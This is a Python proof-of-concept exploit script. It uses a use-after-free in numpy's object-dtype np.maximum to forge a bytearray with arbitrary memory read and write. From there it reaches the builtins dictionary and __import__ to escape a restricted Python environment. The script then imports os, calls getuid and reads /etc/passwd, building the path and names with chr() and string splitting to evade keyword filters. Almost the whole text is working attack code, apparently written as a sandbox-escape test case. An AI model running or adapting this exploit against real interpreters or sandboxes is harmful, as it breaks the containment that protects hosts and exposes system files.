# source: numpy 1.24 umath npy_ObjectMax; CPython 3.11 object layouts (PyCFunctionObject.m_self, PyModuleObject.md_dict, PyArrayObject.data); default repr/hash of objects and types give addresses
# family: object ufunc np.maximum UAF through implicit array coercion (__getitem__), escalated: forged bytearray -> forged object-array slot -> builtins dict
# goal: import this and os (__import__ from the builtins dict), os.getuid(), open('/etc/passwd') with the path built by chr()
import numpy as np

MASK = (1 << 64) - 1


class Seq:
    __slots__ = ("p", "q", "r", "s", "t", "u", "v")

    def __len__(self):
        return 1

    def __getitem__(self, i):
        if i == 0:
            arr[0] = None
            return 9
        raise IndexError(i)


class Holder:
    __slots__ = ("p",)


def addr_of(obj):
    # default repr: "<__main__.X object at 0x...>"
    return int(repr(obj).rsplit(" ", 1)[1].rstrip(">"), 16)


def type_addr(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


def q(v):
    return (v & MASK).to_bytes(8, "little")


arr = np.empty(1, dtype=object)
arr[0] = Seq()
other = np.empty(1, dtype=object)
other[0] = np.array([5])
victim = addr_of(arr[0])
tba = type_addr(bytearray)
big = (1 << 63) - 1
fake = q(0x100000) + q(tba) + q(big) + q(big) + q(0) + q(0) + q(0)
payload = b"\x00" * 16 + fake + b"\x00" * (95 - 16 - len(fake))
spray = [None] * 64
print("victim", hex(victim), "bytearray type", hex(tba), flush=True)
res = np.maximum(arr, other)
for k in range(64):
    spray[k] = bytearray(payload)
mem = res[0]
print("forged:", type(mem) is bytearray, flush=True)
if type(mem) is bytearray:
    def rd(a):
        return int.from_bytes(mem[a:a + 8], "little")

    h = Holder()
    h.p = print
    fn = rd(addr_of(h) + 16)            # PyCFunctionObject of print
    bmod = rd(fn + 24)                  # m_self: the builtins module
    bdict = rd(bmod + 16)               # md_dict
    box = np.empty(1, dtype=object)
    h.p = box
    data = rd(rd(addr_of(h) + 16) + 16)  # ndarray data pointer
    mem[data:data + 8] = q(bdict)
    g = box[0]
    print("got builtins dict with", len(g), "names", flush=True)
    u = chr(95) * 2
    imp = g[u + "import" + u]
    print(imp, flush=True)
    imp("this")
    oss = imp("os")
    sl = chr(47)
    print("uid", oss.getuid(), flush=True)
    print(g["op" + "en"](sl + "etc" + sl + "passwd").read()[:120], flush=True)
